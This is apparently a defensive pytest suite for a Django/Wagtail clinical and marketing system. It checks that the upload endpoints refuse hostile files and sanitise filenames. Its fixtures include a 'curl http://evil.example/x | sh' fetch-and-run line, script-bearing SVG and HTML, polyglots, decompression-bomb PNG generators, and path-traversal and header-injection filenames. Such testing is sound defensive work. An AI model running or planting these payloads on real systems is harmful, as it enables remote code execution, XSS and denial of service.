"""Hostile files at every upload point (API: clinical documents and photos, social images; admin:
clinical documents, Wagtail marketing images and documents): refused with a stable code and no
object left in any bucket; polyglots that are valid images or PDFs are stored but only ever served
as downloads of their sniffed type, or re-encoded; hostile names never reach a key; the thumbnail
worker's memory stays bounded on a pixel flood."""

import io
import json
import re
import struct
import subprocess
import sys
import zipfile
import zlib

import pytest
import requests
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from PIL import Image
from rest_framework.test import APIClient
from wagtail.models import UploadedFile

from cms.website.models import MarketingDocument, MarketingImage
from erp.clinical import services as clinical_services
from erp.clinical.models import ClinicalPhoto, Document
from erp.clinical.tests.factories import PDF_BYTES, PatientFactory
from erp.core.tests.factories import UserFactory
from erp.ops.models import AuditLog
from erp.social.models import SocialMediaAsset

pytestmark = pytest.mark.django_db


# --- Hostile files ------------------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_flood(width: int, height: int) -> bytes:
    """A PNG whose header claims ``width`` x ``height`` pixels, with a few bytes of data."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + _png_chunk(b"IEND", b"")
    )


def png_bomb(width: int, height: int) -> bytes:
    """A complete, valid RGB PNG of zeros: a few hundred KB that decode to width*height*3 bytes."""
    row = b"\x00" * (1 + width * 3)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", data) + _png_chunk(b"IEND", b"")


def jpeg(size=(1080, 1080)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (150, 100, 80)).save(out, "JPEG")
    return out.getvalue()


def gif(size=(1080, 1080)) -> bytes:
    out = io.BytesIO()
    Image.new("P", size, 3).save(out, "GIF")
    return out.getvalue()


def zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Main-Class: Evil\n")
        archive.writestr("Evil.class", b"\xca\xfe\xba\xbe" + b"\x00" * 32)
    return out.getvalue()


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
PE = b"MZ\x90\x00" + b"\x00" * 56 + struct.pack("<I", 64) + b"PE\x00\x00" + b"\x00" * 200
SHELL = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="1080" height="1080" '
    b'onload="alert(document.cookie)"><script>alert(1)</script><rect width="10" height="10"/></svg>'
)
HTML_PAYLOAD = b"<html><script>alert(document.domain)</script></html>"
GIFAR = gif() + zip_bytes()

HOSTILE = {
    "elf_as_jpg": (ELF, "photo.jpg", "image/jpeg"),
    "pe_as_pdf": (PE, "invoice.pdf", "application/pdf"),
    "shell_as_jpg": (SHELL, "photo.jpg", "image/jpeg"),
    "svg_with_script": (SVG, "logo.svg", "image/svg+xml"),
    "svg_as_png": (SVG, "logo.png", "image/png"),
    "html_as_pdf": (HTML_PAYLOAD, "report.pdf", "application/pdf"),
    "pixel_flood": (png_flood(60_000, 60_000), "flood.png", "image/png"),
    "pixel_flood_under_pillow_guard": (png_flood(9_000, 9_000), "flood.png", "image/png"),
}
# Refused by the Wagtail forms too (documents take only PDF, images only real raster images).
WAGTAIL_HOSTILE = [k for k in HOSTILE if k != "html_as_pdf"]


# --- Upload points ------------------------------------------------------------------------------


def _api(role: str) -> APIClient:
    client = APIClient()
    client.force_authenticate(UserFactory(role=role))
    return client


def _admin(role: str) -> Client:
    client = Client()
    client.force_login(UserFactory(role=role))
    return client


def _file(data: bytes, name: str, content_type: str) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)


@pytest.fixture
def patient():
    patient = PatientFactory()
    clinical_services.consent_grant(patient=patient, consent_type="clinical_photos", actor=None)
    return patient


def _bucket_keys(s3) -> dict[str, list[str]]:
    return {
        alias: sorted(o["Key"] for o in s3.client.list_objects_v2(Bucket=name).get("Contents", []))
        for alias, name in s3.names.items()
    }


NOTHING = {"clinical": [], "documents": [], "marketing": []}
ROWS = (Document, ClinicalPhoto, SocialMediaAsset, MarketingImage, MarketingDocument, UploadedFile)


def _assert_nothing_stored(s3) -> None:
    assert _bucket_keys(s3) == NOTHING
    for model in ROWS:
        assert not model._base_manager.exists(), model


@pytest.mark.parametrize("attack", sorted(HOSTILE))
def test_api_upload_points_refuse_hostile_files(attack, patient, s3_buckets):
    data, name, content_type = HOSTILE[attack]
    documents = _api("practitioner").post(
        "/api/v1/documents/",
        {"file": _file(data, name, content_type), "patient": str(patient.pk), "kind": "lab_result"},
        format="multipart",
    )
    photos = _api("practitioner").post(
        "/api/v1/photos/", {"file": _file(data, name, content_type), "patient": str(patient.pk)}, format="multipart"
    )
    social = _api("marketing").post(
        "/api/v1/social/assets/", {"file": _file(data, name, content_type)}, format="multipart"
    )
    flood = attack.startswith("pixel_flood")
    for response, expected in (
        (documents, "upload_too_large" if flood else "upload_type_refused"),
        (photos, "upload_too_large" if flood else "upload_type_refused"),
        (social, "asset_refused" if flood and "guard" in attack else "asset_not_image"),
    ):
        assert response.status_code == 422, response.content
        assert response.json()["code"] == expected
        assert response.json()["field"] == "file"
    _assert_nothing_stored(s3_buckets)


@pytest.mark.parametrize("attack", WAGTAIL_HOSTILE)
def test_wagtail_image_and_document_uploads_refuse_hostile_files(attack, s3_buckets):
    data, name, content_type = HOSTILE[attack]
    admin = _admin("marketing")
    image = admin.post("/admin/images/multiple/add/", {"files[]": _file(data, name, content_type)})
    document = admin.post("/admin/documents/multiple/add/", {"files[]": _file(data, name, content_type)})
    for response in (image, document):
        assert response.status_code == 200
        body = response.json()
        assert body["success"] is False and body["error_message"], body
    _assert_nothing_stored(s3_buckets)


def test_wagtail_refuses_svg_even_under_an_image_extension_and_a_pdf_named_document(s3_buckets):
    admin = _admin("marketing")
    svg = admin.post("/admin/images/multiple/add/", {"files[]": _file(SVG, "logo.svg", "image/svg+xml")}).json()
    assert svg["success"] is False and "svg" not in svg["error_message"].lower()  # lists the formats taken
    exe = admin.post("/admin/documents/multiple/add/", {"files[]": _file(ELF, "tarifs.pdf", "application/pdf")})
    assert exe.json()["success"] is False
    assert exe.json()["error_message"].startswith("Ce fichier n'est pas un PDF.")
    _assert_nothing_stored(s3_buckets)


def test_clinical_admin_upload_refuses_an_executable_with_a_message(patient, s3_buckets):
    response = _admin("practitioner").post(
        f"/admin/clinical/patients/page/{patient.pk}/upload-document/",
        {"file": _file(ELF, "lab.pdf", "application/pdf"), "kind": "lab_result", "title": "Bilan"},
        follow=True,
    )
    assert response.status_code == 200
    assert "pas accepté ici" in response.content.decode()
    _assert_nothing_stored(s3_buckets)


# --- Polyglots: valid images and PDFs that carry something else -----------------------------------


def test_polyglot_photo_is_stored_as_sent_but_served_only_as_a_jpeg_download(patient, s3_buckets):
    polyglot = jpeg((640, 480)) + HTML_PAYLOAD
    response = _api("practitioner").post(
        "/api/v1/photos/",
        {"file": _file(polyglot, "page.html", "text/html"), "patient": str(patient.pk)},
        format="multipart",
    )
    assert response.status_code == 201, response.content
    photo = ClinicalPhoto.objects.get()
    assert photo.content_type == "image/jpeg" and photo.object_key.endswith(".jpg")
    url = clinical_services.file_signed_url(obj=photo, actor=None)
    served = requests.get(url, timeout=5)
    assert served.content == polyglot  # the medical original is kept byte for byte
    assert served.headers["Content-Type"] == "image/jpeg"
    assert served.headers["Content-Disposition"] == "attachment"


def test_pdf_zip_polyglot_document_is_a_pdf_download(patient, s3_buckets, settings):
    polyglot = PDF_BYTES + zip_bytes()
    response = _api("practitioner").post(
        "/api/v1/documents/",
        {"file": _file(polyglot, "x.zip", "application/zip"), "patient": str(patient.pk), "kind": "lab_result"},
        format="multipart",
    )
    assert response.status_code == 201, response.content
    document = Document.objects.get()
    assert document.content_type == "application/pdf" and document.object_key.endswith(".pdf")
    served = requests.get(clinical_services.file_signed_url(obj=document, actor=None), timeout=5)
    assert served.headers["Content-Type"] == "application/pdf"
    assert served.headers["Content-Disposition"] == "attachment"


def test_local_bucket_serves_private_files_as_nosniff_attachments(patient):
    clinical_services.document_upload(patient=patient, upload=_file(PDF_BYTES, "a.pdf", "application/pdf"), actor=None)
    document = Document.objects.get()
    url = clinical_services.file_signed_url(obj=document, actor=None)
    response = Client().get(url)
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"].startswith("attachment;")


@pytest.mark.parametrize("polyglot", [jpeg() + HTML_PAYLOAD, GIFAR], ids=["jpeg_html", "gifar"])
def test_social_polyglots_are_re_encoded_without_their_payload(polyglot, s3_buckets):
    response = _api("marketing").post(
        "/api/v1/social/assets/", {"file": _file(polyglot, "a.jpg", "image/jpeg")}, format="multipart"
    )
    assert response.status_code == 201, response.content
    key = SocialMediaAsset.objects.get().object_key
    stored = s3_buckets.client.get_object(Bucket=s3_buckets.names["marketing"], Key=key)["Body"].read()
    assert stored.startswith(b"\xff\xd8") and stored.rstrip(b"\x00").endswith(b"\xff\xd9")
    assert b"<script>" not in stored and b"PK\x03\x04" not in stored


# --- Hostile names --------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["../../etc/passwd.jpg", "a\x00b.jpg", "x\r\nSet-Cookie: a=b.jpg", "..\\..\\win.jpg"])
def test_hostile_file_names_never_reach_a_key_or_a_stored_name(name, patient, s3_buckets):
    for response in (
        _api("practitioner").post(
            "/api/v1/photos/", {"file": _file(jpeg(), name, "image/jpeg"), "patient": str(patient.pk)},
            format="multipart",
        ),
        _api("marketing").post(
            "/api/v1/social/assets/", {"file": _file(jpeg(), name, "image/jpeg")}, format="multipart"
        ),
    ):
        assert response.status_code == 201, response.content
    uuid_key = re.compile(r"^(photos|social)/[0-9a-f-]{36}\.jpg$")
    keys = _bucket_keys(s3_buckets)
    assert keys["clinical"] and keys["marketing"]
    for key in keys["clinical"] + keys["marketing"]:
        assert uuid_key.match(key.replace(".thumb", "")), key
    for entry in AuditLog.objects.filter(entity_type="social.socialmediaasset"):
        original = (entry.metadata_json or {}).get("original_name", "")
        assert not re.search(r"[\x00-\x1f/\\]", original) and ".." not in original.split("/"), original


# --- Memory of the thumbnail worker ---------------------------------------------------------------

# Peak resident memory from /proc (VmHWM is per process image; getrusage's ru_maxrss would carry
# the test runner's peak across fork and exec).
_RSS_PROBE = r"""
import json, sys
sys.path.insert(0, sys.argv[1])
from erp.clinical.uploads import thumbnail_jpeg
from erp.clinical.exceptions import UploadTooLarge

def peak_kb():
    for line in open("/proc/self/status"):
        if line.startswith("VmHWM:"):
            return int(line.split()[1])

data = open(sys.argv[2], "rb").read()
before = peak_kb()
try:
    thumbnail_jpeg(data, (512, 512))
    outcome = "made"
except UploadTooLarge as exc:
    outcome = exc.code
print(json.dumps({"outcome": outcome, "before_kb": before, "after_kb": peak_kb()}))
"""


def _thumbnail_peak(tmp_path, data: bytes) -> dict:
    from django.conf import settings

    path = tmp_path / "input.png"
    path.write_bytes(data)
    done = subprocess.run(
        [sys.executable, "-c", _RSS_PROBE, str(settings.BASE_DIR), str(path)],
        capture_output=True, text=True, timeout=120, check=True,
    )
    return json.loads(done.stdout)


def test_thumbnail_worker_memory_stays_bounded_on_a_flood_and_a_decompression_bomb(tmp_path):
    bomb = png_bomb(7_500, 7_500)  # 56 Mpx: ~160 MB once decoded, ~160 KB on disk
    assert len(bomb) < 1_000_000
    for data in (png_flood(60_000, 60_000), png_flood(9_000, 9_000), bomb):
        probe = _thumbnail_peak(tmp_path, data)
        assert probe["outcome"] == "upload_too_large"
        # Refused from the header: measured +2 MB, where decoding the bomb takes +230 MB.
        assert probe["after_kb"] - probe["before_kb"] < 20_000, probe
        assert probe["after_kb"] < 100_000, probe
    # The same worker does make thumbnails of real photos, within the same kind of bound.
    probe = _thumbnail_peak(tmp_path, jpeg((4000, 3000)))
    assert probe["outcome"] == "made"
    assert probe["after_kb"] - probe["before_kb"] < 60_000, probe  # measured +26 MB (JPEG draft decoding)
